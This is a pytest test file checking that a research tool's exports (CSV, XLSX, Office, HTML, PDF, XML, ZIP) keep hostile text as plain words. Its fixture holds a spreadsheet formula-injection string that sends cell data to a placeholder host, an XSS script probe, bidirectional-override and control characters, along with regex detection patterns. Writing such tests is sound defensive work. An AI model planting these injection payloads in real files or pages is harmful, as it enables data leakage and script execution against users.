"""Texts that look like formulas, markup or commands leave in every form as the words they are."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from lxml import etree

from coding.codebook.commands import revise_code
from coding.memos.commands import add_memo
from coding.memos.model import NewMemo, Thing
from lifeworld.exports.ethics.export_ethics import export_ethics
from lifeworld.exports.export_thing import Asked, export_thing
from lifeworld.exports.forms import FORMS, Form
from opportunity_spaces.commands import add_insight
from opportunity_spaces.confidence.commands import revise_assessment
from opportunity_spaces.links.commands import link_evidence
from themes.commands import add_theme, revise_theme
from transcripts.consent.commands import record_session_consents
from transcripts.frame.commands import revise_frame
from transcripts.model import PURPOSES
from transcripts.people.commands import add_participant
from transcripts.queries import list_sessions
from transcripts.speakers.commands import link_speaker

ACTOR = "Ana"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Marker")'
MARKUP = "<script>alert(1)</script> ]]> <!-- {code} #pagebreak() $x$ %s \\u{41}"
RIGHT = "אין זמן \u202eMarker\u202c"
NASTY = f"{FORMULA} {MARKUP} {RIGHT}"
LONG = "word " * 2_999 + "lastword"
CONTROL = "Marker\x07 \x1b[31m \x0b \x01 end"
_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_FORMULA = re.compile(r"\s*[=+@\t\r]|\s*-(?!\d)")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, factories: Any) -> SimpleNamespace:
    """A study in which everything that somebody writes or says is hostile; all agreed to all."""
    study = factories.make_study(tmp_path_factory.mktemp("hostile") / "hostile.lifeworld")
    revise_frame(study, title=f"Study {NASTY}", question=NASTY, answer=NASTY, actor=ACTOR)
    said = [("Mod", "Why?"), ("Bo", NASTY), ("Cy", LONG), ("=Di", CONTROL), ("Bo", "-1+1 Marker")]
    one = factories.add_transcript(study, said=said, title=f"Group {NASTY}")
    person = add_participant(study, "+Bo", attributes={"=age": FORMULA}, actor=ACTOR)
    link_speaker(study, one, "Bo", person.id, actor=ACTOR)
    [code] = factories.add_codes(study, f"Code {FORMULA[:60]}", definition=NASTY)
    revise_code(study, code, example=NASTY, actor=ACTOR)
    coded = [factories.code_turn(study, one, code, turn=turn) for turn in (1, 2, 3, 4)]
    add_memo(
        study,
        NewMemo(body=f"{NASTY}\x07", thing=Thing(kind="coding", id=coded[0].id)),
        actor=ACTOR,
    )
    theme = add_theme(study, f"Theme {FORMULA[:60]}", code_ids=[code], actor=ACTOR)
    revise_theme(study, theme.id, expect_rev=theme.rev, status="defined", actor=ACTOR)
    insight = add_insight(study, NASTY, status="agreed", actor=ACTOR)
    link_evidence(study, "theme", theme.id, "insight", insight.id, actor=ACTOR)
    for each in coded:
        link_evidence(
            study, "excerpt", each.excerpt_id, "insight", insight.id, relation="supports",
            actor=ACTOR,
        )  # fmt: skip
    revise_assessment(
        study, insight.id, methods="minor", methods_reason=NASTY, coherence="none",
        adequacy="moderate", relevance="none", overall="moderate", explanation=NASTY, actor=ACTOR,
    )  # fmt: skip
    sessions = [each.id for each in list_sessions(study)]
    record_session_consents(study, sessions, dict.fromkeys(PURPOSES, "given"), actor=ACTOR)
    return SimpleNamespace(study=study, insight=insight)


def check_file(name: str, data: bytes) -> str:
    """See that a file holds texts and nothing that runs, and return its words."""
    read = _CHECKS[name.rpartition(".")[2]]
    told = read(data)
    assert not _FORBIDDEN.search(told), name
    return told


def _check_xml(data: bytes) -> str:
    parser = etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=True)
    tree = etree.fromstring(data, parser)
    assert tree.getroottree().docinfo.doctype == ""
    return "".join(tree.itertext())


def _check_office(data: bytes) -> str:
    """Every part is well-formed, and no link leads out of the file."""
    told = []
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        assert len(set(packed.namelist())) == len(packed.namelist())
        for part in packed.namelist():
            if part.endswith(".rels"):
                assert b'"External"' not in packed.read(part), part
            if part.endswith(".xlsx"):
                told.append(_check_xlsx(packed.read(part)))
            elif part.endswith((".xml", ".rels")):
                told.append(_check_xml(packed.read(part)))
    return "\n".join(told)


def _check_xlsx(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        sheets = [name for name in packed.namelist() if "worksheets/sheet" in name]
        for name in sheets:
            assert not re.search(rb"<f[ >]", packed.read(name)), "a cell is a formula"
        return "\n".join(
            _check_xml(packed.read(name)) for name in packed.namelist() if name.endswith(".xml")
        )


def _check_csv(data: bytes) -> str:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len({len(row) for row in rows}) == 1, "each row has all columns"
    for cell in (cell for row in rows for cell in row):
        assert not _FORMULA.match(cell), cell[:80]
    return "\n".join(cell for row in rows for cell in row)


def _check_html(data: bytes) -> str:
    text = data.decode("utf-8")
    assert "<script>alert" not in text
    tree = etree.fromstring(data, etree.HTMLParser(encoding="utf-8"))
    for element in tree.iter(etree.Element):
        assert not [name for name in element.attrib if name.startswith("on")]
        for name in ("href", "src", "action"):
            assert element.get(name, "#").startswith("#"), "nothing leads out of the page"
    return "".join(tree.itertext())


def _check_pdf(data: bytes) -> str:
    import pypdfium2

    made = pypdfium2.PdfDocument(data)
    told = " ".join(made[at].get_textpage().get_text_bounded() for at in range(len(made)))
    assert b"/JavaScript" not in data
    assert b"/URI" not in data
    # pdfium tells a hyphen at the end of a line by a sign of its own.
    return re.sub("[\x02\ufffe\uffff]\r?\n?", "", told)


def _check_zip(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        for name in packed.namelist():
            assert not re.search(r'[\\:*?"<>|\x00-\x1f]|\.\.', name), name
        return "\n".join(
            check_file(name, packed.read(name)) for name in packed.namelist() if "." in name
        )


def _check_project(data: bytes) -> str:
    """The texts of a project are as they were, to the character: codings are counted in them."""
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        for name in packed.namelist():
            if not name.endswith(".txt"):
                check_file(name, packed.read(name))
        texts = [packed.read(name).decode("utf-8") for name in packed.namelist() if "txt" in name]
    return _FORBIDDEN.sub("", "\n".join(texts))


def _check_lines(data: bytes) -> str:
    return "\n".join(json.dumps(json.loads(line)) for line in data.decode("utf-8").splitlines())


_CHECKS = {
    "pptx": _check_office, "docx": _check_office, "xlsx": _check_xlsx, "csv": _check_csv,
    "html": _check_html, "pdf": _check_pdf, "qdc": _check_xml, "qde": _check_xml,
    "xml": _check_xml, "qdpx": _check_project, "zip": _check_zip, "jsonl": _check_lines,
    "json": lambda data: json.dumps(json.loads(data)), "txt": bytes.decode, "md": bytes.decode,
}  # fmt: skip
WITHOUT_QUOTES = {("project", "qdc"), ("summary", "xlsx"), ("summary", "csv")}
WITHOUT_LONG = WITHOUT_QUOTES | {("deck", "pptx")}  # a slide shows the beginning
CASES = [(form, audience) for form in FORMS for audience in ("internal", "public")]


@pytest.mark.parametrize(
    ("form", "audience"), CASES, ids=[f"{f.thing} {f.suffix} {a}" for f, a in CASES]
)
def test_hostile_texts_are_words_in_every_form_that_leaves(
    hostile: SimpleNamespace, tmp_path: Path, form: Form, audience: str
) -> None:
    if form.thing in ("bundle", "archive") and audience != "internal":
        pytest.skip("has one audience of its own")
    options = {"depositor": {"names_checked": NASTY}} if form.thing == "archive" else {}
    asked = Asked(thing=form.thing, form=form.suffix, audience=audience, options=options)
    out = tmp_path / f"out.{form.suffix}"
    export_thing(hostile.study, out, asked, actor=ACTOR)
    told = check_file(out.name, out.read_bytes())
    assert "Marker" in told
    if (form.thing, form.suffix) not in WITHOUT_LONG:
        assert "lastword" in told
        assert told.count("word ") >= 2_999


def test_a_table_with_a_column_for_each_code_holds_no_formula_either(
    hostile: SimpleNamespace, tmp_path: Path
) -> None:
    for suffix in ("xlsx", "csv"):
        out = tmp_path / f"wide.{suffix}"
        asked = Asked(thing="quotes", form=suffix, audience="internal", options={"layout": "wide"})
        export_thing(hostile.study, out, asked, actor=ACTOR)
        for path in tmp_path.glob(f"wide*.{suffix}"):
            assert "Marker" in check_file(path.name, path.read_bytes()) or "columns" in path.name


def test_the_ethics_papers_hold_them_as_words(hostile: SimpleNamespace, tmp_path: Path) -> None:
    out = tmp_path / "ethics.zip"
    export_ethics(hostile.study, out)
    assert "Marker" in check_file(out.name, out.read_bytes())
